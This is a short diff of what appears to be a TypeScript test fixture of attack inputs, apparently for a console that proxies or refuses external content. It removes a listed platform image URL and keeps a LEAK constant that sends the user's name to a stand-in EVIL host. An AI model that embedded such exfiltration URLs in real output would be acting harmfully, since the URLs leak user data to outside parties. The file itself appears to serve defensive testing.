@@ -375,8 +375,6 @@ const answers: Record<string, Attack> = {
   'refusal in a list': { body: { type: 'service', api: 'source:refused', body: 'x' }, refusal: HTML },
 };
 
-/** Of a platform: shown through the console's own proxy. */
-export const LISTED = 'https://sns-img-qc.xhscdn.com/cover.jpg';
 const LEAK = `${EVIL}/leak?d=\${user.name}`;
 const house = (...body: unknown[]): unknown => ({ type: 'house', body });
 const row = (more: object): unknown =>
